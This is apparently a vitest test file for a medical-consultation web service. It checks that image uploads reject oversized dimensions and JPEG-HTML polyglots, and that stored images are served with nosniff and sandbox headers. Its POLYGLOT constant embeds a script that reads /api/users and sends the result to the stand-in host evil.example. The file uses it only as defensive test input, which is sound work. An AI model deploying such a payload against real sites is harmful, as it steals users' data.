import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ConsultSession } from '../../../contract/index.js';
import type { Database } from '../../../core/db/connect.js';
import { consultClient } from '../../../testing/consult-client.js';
import { multipartBody } from '../../../testing/multipart.js';
import { startScriptedModel, type ScriptedModel } from '../../../testing/scripted-model.js';
import { startServerOn, type ServerOnDatabase } from '../../../testing/server-on-database.js';
import { jpegDeclaring, pngDeclaring } from '../../../testing/test-images.js';
import { openTestDatabase, testEngines } from '../../../testing/test-database.js';

const decide = (decision: Record<string, unknown>) => ({ reply: JSON.stringify(decision) });

/** A valid JPEG whose comment segment is a web page: a browser sniffing it, or opening it on its own, would run it. */
const POLYGLOT = jpegDeclaring(64, 64, '<html><body><script>fetch("/api/users").then(r=>r.text()).then(t=>fetch("https://evil.example/?"+t))</script></body></html>');

/** Issue 32: uploaded images were served without nosniff, polyglots stored, dimensions never read. */
describe.each(testEngines())('consult images at the edge (%s)', (engine) => {
  let database: Database;
  let model: ScriptedModel;
  let server: ServerOnDatabase;
  let token: string;
  const { call, start, say, session } = consultClient(() => ({ url: server.url, token }));

  beforeAll(async () => {
    database = await openTestDatabase({ engine });
    model = await startScriptedModel([]);
    server = await startServerOn(database, { engine, llmBaseUrl: model.baseURL });
    token = (await server.ctx.users.create({ name: 'image-patient', role: 'coordinator' })).token;
  });
  afterAll(async () => {
    await server?.close();
    await model?.close();
  });

  it('refuses a PNG declaring 100 000 x 100 000 pixels before storing it or calling any model', async () => {
    const sessionId = await start();
    const calls = model.requests.length;
    const sent = await call('POST', `/api/consult/sessions/${sessionId}/messages`, { message: 'photo', image: { data: pngDeclaring(100_000, 100_000).toString('base64') } });
    expect(sent.status).toBe(400);
    expect(sent.body).toMatchObject({ code: 'VALIDATION_FAILED', details: { field: 'image', width: 100_000, height: 100_000 } });
    expect(sent.body.message).toMatch(/100000 x 100000 pixels; the largest accepted is 16384 pixels a side and 50 megapixels/);
    expect(model.requests.length).toBe(calls);
    expect((await session(sessionId)).attachments).toEqual([]);
  });

  it('refuses a JPEG-and-HTML polyglot, as JSON or as a multipart file, and stores nothing', async () => {
    const sessionId = await start();
    const asJson = await call('POST', `/api/consult/sessions/${sessionId}/messages`, { message: 'photo', image: { data: POLYGLOT.toString('base64') } });
    expect(asJson.status).toBe(400);
    expect(asJson.body.message).toMatch(/web page markup/);
    const form = multipartBody({ fields: { message: 'A photo.' }, files: { image: { name: 'rash.jpg', content: POLYGLOT, type: 'image/jpeg' } } });
    const asFile = await fetch(`${server.url}/api/consult/sessions/${sessionId}/messages`, { method: 'POST', headers: { authorization: `Bearer ${token}`, ...form.headers }, body: form.payload });
    expect(asFile.status).toBe(400);
    expect((await session(sessionId)).attachments).toEqual([]);
  });

  it('serves a stored image only as that image: nosniff, no script, inline under a fixed name', async () => {
    const sessionId = await start();
    model.push(decide({ thought: 'Ask.', action: 'respond', response: 'When did it appear?', quick_options: [] }));
    await say(sessionId, 'A photo of my arm.', { data: jpegDeclaring(640, 480).toString('base64') });
    const [attachment] = (await session(sessionId)).attachments as ConsultSession['attachments'];
    const served = await call('GET', `/api/consult/sessions/${sessionId}/attachments/${attachment!.id}`);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/jpeg');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('content-security-policy')).toContain('sandbox');
    expect(served.headers.get('content-security-policy')).toContain("default-src 'none'");
    expect(served.headers.get('content-disposition')).toBe('inline; filename="consult-image.jpeg"');
    // Every other answer says the same: JSON is never read as anything else either.
    expect((await call('GET', `/api/consult/sessions/${sessionId}`)).headers.get('x-content-type-options')).toBe('nosniff');
  });
});
